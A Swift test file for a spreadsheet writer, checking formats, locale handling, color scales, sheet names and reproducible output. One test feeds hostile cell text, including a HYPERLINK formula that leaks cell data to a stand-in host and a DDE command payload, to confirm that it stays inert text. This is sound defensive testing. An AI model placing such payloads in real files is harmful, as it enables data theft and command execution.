import CohortCore
@testable import CohortExcel
import Foundation
import Testing

/// The writer's output read back with openpyxl (python3-openpyxl), an implementation independent of libxlsxwriter.
struct ExcelWriterTests {
    @Test func everyCellReadsBackWithItsTypeValueAndFormat() throws {
        let workbook = ExcelFixture.workbook
        let file = try ExcelWriter.file(of: workbook)
        #expect(file.warnings.isEmpty)
        let read = try WorkbookReader.read(file.data)
        #expect(read.sheets.map(\.name) == workbook.sheets.map(\.name))
        for (sheet, readSheet) in zip(workbook.sheets, read.sheets) {
            #expect(readSheet.cells == ExpectedCells.of(sheet), "sheet \(sheet.name)")
            #expect(readSheet.formulas == 0)
        }
    }

    @Test func numberFormatsAreExcelCodes() throws {
        let read = try WorkbookReader.read(ExcelWriter.data(of: ExcelFixture.workbook))
        let summary = try #require(read.sheet("Übersicht"))
        #expect(summary.cell(1, 1)?.format == "#,##0")
        #expect(summary.cell(2, 1)?.format == #"#,##0.00 "€""#)
        #expect(summary.cell(3, 1)?.format == ##""$"#,##0"##)
        #expect(summary.cell(4, 1)?.format == "0.0%")
        #expect(summary.cell(5, 1)?.format == "yyyy-mm-dd")
        #expect(summary.cell(5, 1)?.type == "d")
        #expect(summary.cell(6, 1)?.format == "yyyy-mm")
        #expect(summary.cell(7, 1)?.format == "General")
        #expect(summary.cell(8, 1)?.format == "#,##0.000")
    }

    @Test func eachDistinctFormatIsMadeOnce() throws {
        let rows = (0..<500).map { index in
            [ExcelCell.header("h"), .number(Double(index) / 500, .percent(places: 1)), .integer(index),
             .number(Double(index), .money(.euro, places: 2)), .date(ExcelFixture.date(2026, 1, 1 + index % 28))]
        }
        let read = try WorkbookReader.read(ExcelWriter.data(of: ExcelWorkbook(sheets: [ExcelSheet(name: "Many", rows: rows)])))
        // The default format, then header, percent, integer, money and date.
        #expect(read.cellFormats == 6)
        #expect(read.sheets.first?.cells.count == 2_500)
    }

    /// Debian's libxlsxwriter writes numbers with `%.16G`: 16 significant digits, one fewer than a
    /// Double may need, so a few values read back as their 16-digit rounding.
    @Test func numbersReadBackToSixteenSignificantDigits() throws {
        let values: [Double] = [0, -0.0, 1, -1, 0.45, 98_765.43, 1.0 / 3.0, 0.1 + 0.2, 123_456_789.123_456_789, 1e-300,
                                -2.5e300, 9_007_199_254_740_992, Double.ulpOfOne, Double.leastNormalMagnitude, 0.8765]
        let sheet = ExcelSheet(name: "Numbers", rows: values.map { [.number($0, .general)] })
        let read = try WorkbookReader.read(ExcelWriter.data(of: ExcelWorkbook(sheets: [sheet])))
        let numbers = try #require(read.sheets.first).cells.map(\.number)
        #expect(numbers == values.map { Double(String(format: "%.16G", $0)) })
        #expect(numbers[4] == 0.45 && numbers[5] == 98_765.43 && numbers[6] == 1.0 / 3.0)
    }

    @Test(.enabled(if: GermanLocale.available)) func numbersAreWrittenWithADotUnderAGermanLocale() throws {
        let locale = try #require(GermanLocale.make())
        defer { freelocale(locale) }
        // The hazard: under this thread's German locale, snprintf writes a decimal comma.
        let previous = uselocale(locale)
        defer { uselocale(previous) }
        #expect(GermanLocale.snprintf(0.5) == "0,5")
        let sheet = ExcelSheet(name: "Zahlen", rows: [[.number(0.5, .percent(places: 1)), .number(1234.75, .money(.euro, places: 2))]],
                               columnWidths: [12.5],
                               colorScales: [ExcelColorScale(range: ExcelRange(rows: 0...0, columns: 0...1),
                                                             minimum: .init(.number(0.25), ExcelColor(rgb: 0xFFFFFF)),
                                                             maximum: .init(.percentile(87.5), ExcelColor(rgb: 0x2F6F9F)))])
        let data = try ExcelWriter.data(of: ExcelWorkbook(sheets: [sheet]))
        #expect(GermanLocale.snprintf(0.5) == "0,5", "the thread's locale is restored")
        let read = try #require(try WorkbookReader.read(data).sheets.first)
        #expect(read.cells.map(\.number) == [0.5, 1234.75])
        #expect(read.widths.first?.width == ExcelFixture.storedWidth(12.5))
        #expect(read.colorScales.first?.stops.map(\.value) == [0.25, 87.5])
    }

    @Test func panesWidthsFilterAndColorScalesReadBack() throws {
        let workbook = ExcelFixture.workbook
        let read = try WorkbookReader.read(ExcelWriter.data(of: workbook))
        let summary = try #require(read.sheet("Übersicht")), triangle = try #require(read.sheet("Retention"))
        let customers = try #require(read.sheet("Kunden"))
        #expect(summary.freeze == "B2")
        #expect(triangle.freeze == "C2")
        #expect(customers.freeze == "A2")
        #expect(summary.autofilter == nil && triangle.autofilter == nil)
        #expect(customers.autofilter == "A1:C4")

        #expect(summary.widths.isEmpty)
        for (model, readSheet) in [(workbook.sheets[1], triangle), (workbook.sheets[2], customers)] {
            let expected = model.columnWidths.enumerated().map { column, width in
                ReadSheet.Width(min: column + 1, max: column + 1, width: ExcelFixture.storedWidth(width!))
            }
            #expect(readSheet.widths == expected, "sheet \(model.name)")
        }

        let scales = triangle.colorScales.sorted { $0.range > $1.range }
        #expect(scales == [
            ReadSheet.ColorScale(range: "C2:E4",
                                 stops: [.init(type: "min", value: 0), .init(type: "percentile", value: 50), .init(type: "max", value: 0)],
                                 colors: ["FFF8696B", "FFFFEB84", "FF63BE7B"]),
            ReadSheet.ColorScale(range: "B2:B4", stops: [.init(type: "num", value: 0), .init(type: "percent", value: 90)],
                                 colors: ["FFFFFFFF", "FF000000"]),
        ])
    }

    /// libxlsxwriter takes "min" only at the low end and "max" only at the high end; elsewhere
    /// the lowest and highest values are written as 0 and 100 percent.
    @Test func lowestAndHighestInTheMiddleOfAScale() throws {
        let scale = ExcelColorScale(range: ExcelRange(rows: 0...2, columns: 0...0),
                                    minimum: .init(.highest, ExcelColor(rgb: 0x111111)),
                                    midpoint: .init(.lowest, ExcelColor(rgb: 0x222222)),
                                    maximum: .init(.lowest, ExcelColor(rgb: 0x333333)))
        let sheet = ExcelSheet(name: "Scale", rows: [[.integer(1)], [.integer(2)], [.integer(3)]], colorScales: [scale])
        let read = try #require(try WorkbookReader.read(ExcelWriter.data(of: ExcelWorkbook(sheets: [sheet]))).sheets.first)
        #expect(read.colorScales.first?.stops == [.init(type: "percent", value: 100), .init(type: "percent", value: 0),
                                                  .init(type: "percent", value: 0)])
    }

    @Test func germanUmlautsInHeadersAndSheetNames() throws {
        let read = try WorkbookReader.read(ExcelWriter.data(of: ExcelFixture.workbook))
        let summary = try #require(read.sheet("Übersicht"))
        #expect(summary.cell(0, 0)?.text == "Kennzahl")
        let triangle = try #require(read.sheet("Retention"))
        #expect(triangle.cell(0, 1) == ReadSheet.Cell(row: 0, column: 1, type: "s", format: "General", bold: true,
                                                      bottomBorder: "thin", text: "Größe", number: nil, date: nil, time: nil))
        #expect(read.sheet("Kunden")?.cell(1, 0)?.text == "Müller & Söhne GmbH")
    }

    @Test func hostileTextStaysText() throws {
        let long = String(repeating: "ab", count: 20_000) + "€"
        let hostile = [
            "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Klick\")", "=1+2", "+1+2", "-3", "@SUM(A1:A2)", "=cmd|' /C calc'!A0",
            "<script>alert(1)</script>", "</t></si><si><t>injected", "&amp; &lt; \"quoted\" 'single'",
            "a\u{1}b\u{1F}c\td\r\ne\u{7F}", "_x0041_ and _x005F_ and _x0041_x0042_", "nul\u{0}byte", " leading and trailing ",
            "😀 Emoji and 中文", long,
        ]
        let sheet = ExcelSheet(name: "Hostile", rows: hostile.map { [.text($0)] })
        let file = try ExcelWriter.file(of: ExcelWorkbook(sheets: [sheet]))
        let read = try #require(try WorkbookReader.read(file.data).sheets.first)
        #expect(read.formulas == 0)
        #expect(read.cells.allSatisfy { $0.type == "s" })
        var expected = hostile
        expected[11] = "nul\u{FFFD}byte"
        expected[14] = String(repeating: "ab", count: 16_383) + "a"
        #expect(read.cells.map(\.text) == expected)
        #expect(file.warnings == [
            .charactersReplaced(ExcelCellAddress(sheet: "Hostile", row: 11, column: 0), count: 1),
            .textTruncated(ExcelCellAddress(sheet: "Hostile", row: 14, column: 0), length: 40_001, limit: 32_767),
        ])
    }

    @Test func sheetNamesAreMadeValidAndUnique() throws {
        let names = ["Revenue/GRR [%]", "revenue_grr _%_", "'Quoted'", "", "History",
                     "A very long sheet name that Excel would refuse", "Umsätze: März*?"]
        let file = try ExcelWriter.file(of: ExcelWorkbook(sheets: names.map { ExcelSheet(name: $0, rows: [[.text($0)]]) }))
        let written = ["Revenue_GRR _%_", "revenue_grr _%_ (2)", "Quoted", "Sheet", "History (2)",
                       "A very long sheet name that Exc", "Umsätze_ März__"]
        #expect(try WorkbookReader.read(file.data).sheets.map(\.name) == written)
        #expect(file.warnings == zip(names, written).compactMap { $0 == $1 ? nil : .sheetRenamed(from: $0, to: $1) })
    }

    @Test func documentPropertiesReadBack() throws {
        let read = try WorkbookReader.read(ExcelWriter.data(of: ExcelFixture.workbook))
        #expect(read.properties.title == "Kohortenanalyse")
        #expect(read.properties.subject == "Retention")
        #expect(read.properties.creator == "cohort")
        #expect(read.properties.keywords == "retention, cohort")
        #expect(read.properties.description == "Test")
        #expect(read.properties.created == "2026-02-28T00:00:00")
    }

    @Test func sameWorkbookGivesSameBytes() throws {
        let first = try ExcelWriter.data(of: ExcelFixture.workbook)
        Thread.sleep(forTimeInterval: 1.1)  // a clock in the file would show now
        let second = try ExcelWriter.data(of: ExcelFixture.workbook)
        #expect(first == second)
        #expect(try ExcelWriter.data(of: ExcelWorkbook(sheets: [ExcelFixture.summary])) ==
                ExcelWriter.data(of: ExcelWorkbook(sheets: [ExcelFixture.summary])))
        var later = ExcelFixture.workbook
        later.properties.created = Date(timeIntervalSince1970: 1_800_000_000)
        #expect(try ExcelWriter.data(of: later) != first)
    }

    @Test func nonFiniteNumbersAreLeftEmptyWithAWarning() throws {
        let sheet = ExcelSheet(name: "Ratios", rows: [[.number(.nan, .percent(places: 1)), .number(.infinity, .general), .number(0.5, .general)]])
        let file = try ExcelWriter.file(of: ExcelWorkbook(sheets: [sheet]))
        let read = try #require(try WorkbookReader.read(file.data).sheets.first)
        #expect(read.cells.map(\.type) == ["empty", "n"])
        #expect(read.cells.first?.format == "0.0%")
        #expect(file.warnings == [.nonFiniteNumberLeftEmpty(ExcelCellAddress(sheet: "Ratios", row: 0, column: 0)),
                                  .nonFiniteNumberLeftEmpty(ExcelCellAddress(sheet: "Ratios", row: 0, column: 1))])
    }

    @Test func aWorkbookWithoutSheetsGetsAnEmptyOne() throws {
        let read = try WorkbookReader.read(ExcelWriter.data(of: ExcelWorkbook()))
        #expect(read.sheets.map(\.name) == ["Sheet1"])
    }
}
